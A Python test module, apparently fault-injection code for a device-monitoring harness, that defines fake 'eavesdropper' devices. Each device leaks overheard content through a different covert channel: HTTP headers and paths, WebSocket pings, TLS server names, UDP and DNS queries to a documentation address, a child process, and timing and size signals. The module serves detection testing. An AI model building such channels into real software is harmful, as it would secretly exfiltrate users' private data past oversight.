"""Liars that hide by channel: what is said leaves by another way than the link's messages."""

from __future__ import annotations

import asyncio
import http.client
import socket
import ssl
import subprocess
import sys
import time
from contextlib import suppress
from functools import cache
from typing import Any

from earwitness.reference_impl.device.link import (
    Link,
    LinkLost,
    Route,
    network,
)
from earwitness.reference_impl.faults.liars.eavesdropper import Eavesdropper

PATIENCE = 2.0
"""Seconds of real time that any of these ways may take."""
NOWHERE = "192.0.2.7"
"""An address that is set apart for examples (RFC 5737): a cell sees what tries to get there."""


@cache
def make_trusting_context(route: Route) -> ssl.SSLContext:
    """Believes what the honest link believes. Without an authority the machine's are read, which takes a
    while."""
    return ssl.create_default_context(cadata=route.authority)


@cache
def make_nameless_context(route: Route) -> ssl.SSLContext:
    """The same for an address in numbers, while the certificate is for localhost."""
    context = ssl.create_default_context(cadata=route.authority)
    context.check_hostname = False
    return context


class Post(Eavesdropper):
    """Uploads what it hears by HTTPS POST to the port of its link."""

    def send_up(self, content: bytes) -> None:
        self.ask_by_http(
            method="POST",
            path="/v1/diagnostics",
            body=content,
            headers={},
        )

    def ask_by_http(
        self, method: str, path: str, body: bytes, headers: dict[str, str]
    ) -> None:
        route = self.link.route
        context = make_nameless_context(route)
        connection = http.client.HTTPSConnection(
            route.host,
            route.port,
            timeout=PATIENCE,
            context=context,
        )
        with suppress(OSError, http.client.HTTPException):
            connection.request(
                method,
                path,
                body,
                headers,
            )
            connection.getresponse().read()
        connection.close()


class Headers(Post):
    """Uploads what it hears in the headers of harmless requests by HTTPS."""

    def send_up(self, content: bytes) -> None:
        self.ask_by_http(
            method="GET",
            path="/time",
            body=b"",
            headers={"x-request-id": content.hex()},
        )


class Paths(Post):
    """Uploads what it hears in the path of harmless requests by HTTPS."""

    def send_up(self, content: bytes) -> None:
        self.ask_by_http(
            method="GET",
            path="/update?build=" + content.hex(),
            body=b"",
            headers={},
        )


class Ping(Eavesdropper):
    """Uploads what it hears in the payload of WebSocket pings of its link."""

    longest = 125
    """Bytes of a control frame (RFC 6455)."""

    def send_up(self, content: bytes) -> None:
        with suppress(LinkLost):
            self.link.ask({"type": "settings", "device": self.name})
            for begin in range(0, len(content), self.longest):
                network.done(self.ping(content[begin : begin + self.longest]))

    async def ping(self, content: bytes) -> None:
        wire: Any = self.link._wire
        if wire is not None:
            await wire._connection.ping(content)


class Closing(Eavesdropper):
    """Uploads what it hears in the reasons it gives for closing connections of its own to the link's port."""

    longest = 120
    """Bytes of a reason, which must be text."""

    def send_up(self, content: bytes) -> None:
        # Each connection costs a handshake, so it sends one byte in eight.
        text = content[1::8].hex()
        for begin in range(0, len(text), self.longest):
            with suppress(
                OSError,
                TimeoutError,
                asyncio.TimeoutError,
            ):
                network.done(
                    self.close_with(text[begin : begin + self.longest])
                )

    async def close_with(self, reason: str) -> None:
        connection = await self.link.connect()
        await connection.close(1000, reason)


def connect_plainly(route: Route) -> socket.socket:
    """A connection without TLS."""
    return socket.create_connection((route.host, route.port), PATIENCE)


class Plain(Eavesdropper):
    """Uploads what it hears as it is, without TLS, to the port of its link."""

    def send_up(self, content: bytes) -> None:
        with suppress(OSError), connect_plainly(self.link.route) as way:
            way.sendall(content)


class ServerNames(Eavesdropper):
    """Uploads what it hears in the server names of TLS handshakes that it never ends."""

    label = 50
    """Letters of one part of a name; 63 are allowed."""

    def send_up(self, content: bytes) -> None:
        text = content[::8].hex()
        parts = [
            text[begin : begin + self.label]
            for begin in range(0, len(text), self.label)
        ]
        for begin in range(0, len(parts), 4):
            self.shake_hands(".".join(parts[begin : begin + 4]) + ".example")

    def shake_hands(self, name: str) -> None:
        route = self.link.route
        with suppress(OSError), connect_plainly(route) as way:
            make_trusting_context(route).wrap_socket(
                way, server_hostname=name
            ).close()


class Direct(Eavesdropper):
    """Uploads what it hears by a second TLS connection straight to the cloud, past the harness."""

    first_route: Route | None = None

    def __init__(self, **own: Any) -> None:
        super().__init__(**own)
        # The route it is given before anybody asks for another.
        Direct.first_route = Direct.first_route or self.link.route
        self.second = Link(Direct.first_route)

    def send_up(self, content: bytes) -> None:
        with suppress(LinkLost):
            self.second.ask(content)


class Datagrams(Eavesdropper):
    """Uploads what it hears by UDP to somebody out there."""

    # Any port would do.
    port = 9_999

    def send_up(self, content: bytes) -> None:
        with (
            suppress(OSError),
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way,
        ):
            way.sendto(content, (NOWHERE, self.port))


class NamesLookedUp(Eavesdropper):
    """Uploads what it hears in the names it looks up."""

    def send_up(self, content: bytes) -> None:
        text = content[::64].hex()
        with (
            suppress(OSError),
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way,
        ):
            question = b"".join(
                bytes([len(part)]) + part
                for part in (text[:60].encode(), b"example")
            )
            # A question for an address (RFC 1035): header with one question, name, type A, class IN.
            way.sendto(
                bytes.fromhex("abcd01000001000000000000")
                + question
                + b"\0\0\1\0\1",
                (NOWHERE, 53),
            )


class SecondProcess(Eavesdropper):
    """Hands what it hears to a process of its own, which uploads it."""

    def send_up(self, content: bytes) -> None:
        route = self.link.route
        program = (
            "import socket, sys\n"
            f"way = socket.create_connection(({route.host!r}, {route.port}), {PATIENCE})\n"
            "way.sendall(sys.stdin.buffer.read())\n"
        )
        command = [sys.executable, "-I", "-S", "-c", program]
        with suppress(OSError, subprocess.SubprocessError):
            subprocess.run(
                command,
                input=content,
                # Five times: chosen, as a tool has to start first.
                timeout=5 * PATIENCE,
                stderr=subprocess.DEVNULL,
            )


class Beats(Eavesdropper):
    """Says how loud it is by when it sends harmless requests: two close together where somebody speaks."""

    apart = 0.02
    """Seconds of real time."""

    def send_up(self, content: bytes) -> None:
        with suppress(LinkLost):
            self.link.ask({"type": "settings", "device": self.name})
            time.sleep(self.apart)
            self.link.ask({"type": "settings", "device": self.name})


class Sizes(Eavesdropper):
    """Says how loud it is by the length of harmless requests."""

    def send_up(self, content: bytes) -> None:
        loudness = max(content[1::2]) % 128
        with suppress(LinkLost):
            self.link.ask(
                {"type": "settings", "device": self.name + " " * loudness}
            )
